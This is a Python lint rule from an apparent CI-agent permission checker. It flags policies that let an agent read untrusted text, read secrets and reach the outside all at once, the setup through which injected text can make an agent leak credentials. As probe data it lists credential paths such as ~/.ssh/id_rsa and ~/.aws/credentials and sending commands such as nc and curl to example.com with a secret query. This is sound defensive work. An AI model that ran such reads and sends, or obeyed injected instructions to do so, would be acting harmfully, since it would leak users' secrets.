"""Three grants that are harmless one by one: text that anybody may have written, secrets, and a way out."""

from collections.abc import Iterator, Sequence
from typing import Final

from ci_agent.policy.file.calls import expand_call
from ci_agent.policy.lint.finding import LintFinding, Subject, Witness, is_own, warning
from ci_agent.policy.lint.samples import command_call, sample_arguments, sample_urls, tool_names
from ci_agent.policy.rules import Rule
from ci_agent.strict_yaml import quote

_READERS: Final = (["cat"], ["head"], ["sed", "-n", "1,9p"], ["grep", "x"], ["jq", "."])

_TEXTS: Final = ("README.md", "src/x.py", "docs/x.md", "CHANGELOG.md")

_SECRETS: Final = (
    *(".env", ".git/config", ".npmrc", "deploy/server.key"),
    *(f"{home}/{name}" for home in ("/root", "/home/x") for name in (".ssh/id_rsa", ".aws/credentials", ".netrc")),
)

_SENDING: Final = (
    *(["git", "push", *more] for more in ([], ["origin", "HEAD"])),
    *(["gh", kind, "comment", "1", "--body", "x"] for kind in ("issue", "pr")),
    ["gh", "issue", "create", "--title", "x", "--body", "x"],
    ["gh", "api", "x"],
    *([program, "publish"] for program in ("npm", "pnpm", "cargo", "poetry")),
    ["twine", "upload", "x"],
    ["docker", "push", "x"],
    ["ssh", "x"],
    *([program, "x", "x:x"] for program in ("scp", "rsync")),
    ["aws", "s3", "cp", "x", "s3://x/x"],
    ["nc", "x", "1"],
)
"""Commands that carry something to where others can read it."""


def find_trifecta(subject: Subject) -> Iterator[LintFinding]:
    """One finding at most, at the first rule of this file that takes part, beginning with the way out."""
    legs = [_first_granted(subject, calls) for calls in (_ways_out(subject), _reads(_SECRETS), _untrusted(subject))]
    way_out, secret, untrusted = ((leg[0] if leg else None) for leg in legs)
    if way_out is None or secret is None or untrusted is None:
        return
    rule = next((leg[1] for leg in legs if leg and is_own(leg[1])), None)
    if rule is not None:
        yield warning("trifecta", rule, _message(way_out, secret, untrusted), way_out)


def _message(way_out: Witness, secret: Witness, untrusted: Witness) -> str:
    return (
        f"takes part in a way out for secrets: whoever can write what {_shown(untrusted)} shows may make the run do "
        f"{_shown(secret)} and then {_shown(way_out)}; deny the secrets (as read-only does), or the way out"
    )


def _shown(call: Witness) -> str:
    """The call in a few words, as a policy's test would write it."""
    value = next((call.arguments[key] for key in ("command", "path", "url") if key in call.arguments), None)
    return quote(call.tool if value is None else str(value) if call.tool == "bash" else f"{call.tool} {value}")


def _first_granted(subject: Subject, calls: Iterator[Witness]) -> tuple[Witness, Rule] | None:
    """The first call that the policy allows, with the rule that grants it."""
    for call in calls:
        decision = subject.decide(call.tool, call.arguments)
        rule = subject.rule(decision.rule_id) if decision.effect == "allow" else None
        if rule is not None:
            return call, rule
    return None


def _reads(paths: Sequence[str]) -> Iterator[Witness]:
    for path in paths:
        yield Witness("read", expand_call("read", path))
        yield Witness("grep", {"pattern": "x", "path": path})
        yield from (command_call([*words, path]) for words in _READERS)


def _untrusted(subject: Subject) -> Iterator[Witness]:
    """Files of the checkout, and pages."""
    yield from _reads(_TEXTS)
    for rule in _allow_rules(subject, "fetch"):
        yield from (Witness("fetch", {"url": url}) for url in sample_urls(rule))


def _ways_out(subject: Subject) -> Iterator[Witness]:
    """What reaches somebody else: any public host, a command that sends, a tool of a server.

    Hosts that the policy names are none: whoever wants the secret would have to own one of them.
    """
    for rule in _allow_rules(subject, "fetch"):
        if rule.host is None or "**" in rule.host:
            yield Witness("fetch", {"url": "https://example.com/?q=secret"})
    yield from map(command_call, _SENDING)
    yield from (Witness("propose", {"kind": kind}) for kind in subject.source.proposals.kinds if kind != "label")
    for program in ("curl", "wget"):
        yield command_call([program, "https://example.com/?q=secret"])
    for rule in subject.source.rules:
        if rule.effect == "allow":
            yield from (Witness(name, sample_arguments(rule)) for name in tool_names(rule) if "__" in name)


def _allow_rules(subject: Subject, tool: str) -> list[Rule]:
    return [rule for rule in subject.source.rules if rule.effect == "allow" and tool in tool_names(rule)]
